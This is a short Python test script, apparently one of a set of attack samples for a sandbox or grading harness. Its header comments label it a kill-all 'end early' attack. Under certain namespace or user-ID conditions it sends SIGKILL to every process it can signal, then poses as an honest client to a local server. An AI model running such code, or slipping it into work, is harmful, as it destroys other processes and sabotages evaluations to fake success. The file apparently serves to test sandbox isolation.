# attack: sends SIGKILL to every process that it may signal
# family: end early
# score: full
# stopped: namespaces user
import os
import signal
import socket

few = sum(name.isdigit() for name in os.listdir("/proc")) < 8  # a world of its own, or a user of its own:
if few or os.getuid() >= 40_000:  # else it would end the machine
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass

# From here on it is an honest client.
with socket.create_connection(("127.0.0.1", 8080)) as server:
    server.sendall(b"hello")
    print(server.recv(1024))
